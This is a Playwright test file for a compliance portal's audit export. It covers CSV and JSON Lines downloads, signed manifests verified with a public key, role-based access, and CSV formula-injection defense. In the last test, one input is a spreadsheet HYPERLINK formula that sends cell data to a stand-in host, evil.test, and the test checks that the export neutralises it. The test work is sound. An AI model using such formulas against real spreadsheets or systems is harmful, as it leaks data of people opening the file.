/**
 * The compliance export as an auditor uses it: download CSV and JSON Lines, fetch the signed
 * manifest the response points to and the portal's public key, and check the file offline with
 * the same code as `npm run audit:verify`. Every export is on the audit trail; a formula typed
 * into a request never reaches a spreadsheet as one.
 */
import { expect, test } from '@playwright/test';
import { auditExportManifestSchema, auditPublicKeySchema } from '@/lib/contract/audit';
import { expectProblem } from '../support/problem';
import { asUser, JUSTIFICATION, parseAnswer, readAudit, userIdOf } from '../support/portal-api';
import { readPublicKey, verifyAuditExport } from '../../scripts/audit-verify';

const AUDITOR = 'henrietta.mueller@contoso.test';
const ADMIN = 'cameron.white@contoso.test';
const MANAGER = 'bianca.pisani@contoso.test';

for (const format of ['csv', 'jsonl'] as const) {
  test(`an auditor downloads a ${format} export whose signed manifest verifies offline with the published key`, async ({ request }) => {
    const auditor = asUser(request, AUDITOR);
    const res = await auditor.get(`/api/audit/export?format=${format}`);
    expect(res.status(), await res.text()).toBe(200);
    const headers = res.headers();
    expect(headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="tap-broker-audit-[0-9a-f-]{36}\\.${format}"$`));
    expect(headers['content-type']).toContain(format === 'csv' ? 'text/csv' : 'application/x-ndjson');
    const exportId = headers['x-export-id'] ?? '';
    expect(headers['x-export-manifest-url']).toBe(`/api/audit/export/${exportId}/manifest`);
    const bytes = await res.body();

    const manifestRes = await auditor.get(headers['x-export-manifest-url'] ?? '');
    expect(manifestRes.status(), await manifestRes.text()).toBe(200);
    // The signature covers the manifest as sent, every member: the verifier gets it unparsed.
    const sentManifest: unknown = await manifestRes.json();
    const manifest = auditExportManifestSchema.parse(sentManifest);
    expect(manifest).toMatchObject({ exportId, format, generatedBy: await userIdOf(AUDITOR), file: { bytes: bytes.length } });

    // The public key needs no token: an outside auditor pins it.
    const keyRes = await request.get('/api/audit/public-key');
    expect(keyRes.status()).toBe(200);
    const key = await parseAnswer(keyRes, auditPublicKeySchema);
    expect(key).toMatchObject({ alg: 'Ed25519', jwk: { kty: 'OKP', crv: 'Ed25519' } });

    const result = await verifyAuditExport([bytes], { manifest: sentManifest, publicKey: readPublicKey(await keyRes.text()) });
    expect(result, result.problem).toMatchObject({ ok: true, format, keySource: 'pinned', keyId: key.keyId });
    expect(result.count).toBe(manifest.count);

    const exported = await readAudit(request, AUDITOR, { type: 'audit.exported' });
    const event = exported.find((e) => e.id === exportId);
    expect(event, 'the export is itself an audit event').toBeDefined();
    expect(event?.data).toMatchObject({ format, count: result.count, lastSeq: result.lastSeq });
  });
}

test('a time range exports only its events; admins may export; others may not', async ({ request }) => {
  const future = new Date(Date.now() + 3_600_000).toISOString();
  const empty = await asUser(request, ADMIN).get(`/api/audit/export?format=jsonl&from=${encodeURIComponent(future)}`);
  expect(empty.status(), await empty.text()).toBe(200);
  expect(await empty.body()).toHaveLength(0);
  expect(empty.headers()['x-export-count']).toBe('0');

  await expectProblem(await asUser(request, MANAGER).get('/api/audit/export?format=csv'), 403, 'forbidden');
  await expectProblem(await request.get('/api/audit/export?format=csv'), 401, 'unauthenticated');
  await expectProblem(await asUser(request, AUDITOR).get('/api/audit/export?format=xml'), 400, 'validation-failed');
  await expectProblem(await asUser(request, AUDITOR).get('/api/audit/export?format=csv&from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z'), 400, 'validation-failed');
  await expectProblem(await asUser(request, AUDITOR).get('/api/audit/export/00000000-0000-4000-8000-000000000000/manifest'), 404, 'not-found');
  await expectProblem(await asUser(request, MANAGER).get('/api/audit/export/00000000-0000-4000-8000-000000000000/manifest'), 403, 'forbidden');
});

/** The text of every cell of a CSV export (RFC 4180, CRLF rows; the export escapes line breaks inside `data`). */
function csvCells(text: string): string[] {
  return text
    .split('\r\n')
    .filter((row) => row !== '')
    .flatMap((row) => [...row.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map((m) => (m[1] ?? '').replace(/^"|"$/g, '').replaceAll('""', '"')));
}

test('a formula typed as a target is inert in the CSV export, and the export still verifies', async ({ request }) => {
  const payloads = ['=HYPERLINK("https://evil.test/?"&A1,"open")@x', '+1+1@x.test', '-2+3@contoso.test'];
  const manager = asUser(request, MANAGER);
  for (const targetUserId of payloads) {
    await expectProblem(await manager.post('/api/tap-requests', { targetUserId, justification: JUSTIFICATION }), 403, 'not-in-reporting-chain');
  }
  // Each refusal is on the trail, naming nobody: raw input is never recorded as the target.
  const refused = (await readAudit(request, AUDITOR, { actorId: await userIdOf(MANAGER), type: 'tap_request.refused' })).slice(0, payloads.length);
  expect(refused).toHaveLength(payloads.length);
  for (const event of refused) expect(event.targetId).toBeUndefined();

  const auditor = asUser(request, AUDITOR);
  const res = await auditor.get('/api/audit/export?format=csv');
  expect(res.status(), await res.text()).toBe(200);
  const bytes = await res.body();
  const text = bytes.toString('utf8');
  for (const payload of payloads) expect(text).not.toContain(payload.replaceAll('"', '""'));
  // No cell a spreadsheet would evaluate: none begins with a formula character.
  const cells = csvCells(text);
  expect(cells.length).toBeGreaterThan(10);
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

  const manifestRes = await auditor.get(res.headers()['x-export-manifest-url'] ?? '');
  expect(manifestRes.status(), await manifestRes.text()).toBe(200);
  const manifest: unknown = await manifestRes.json();
  const keyRes = await request.get('/api/audit/public-key');
  const result = await verifyAuditExport([bytes], { manifest, publicKey: readPublicKey(await keyRes.text()) });
  expect(result, result.problem).toMatchObject({ ok: true, format: 'csv', manifestChecked: true, keySource: 'pinned' });
});
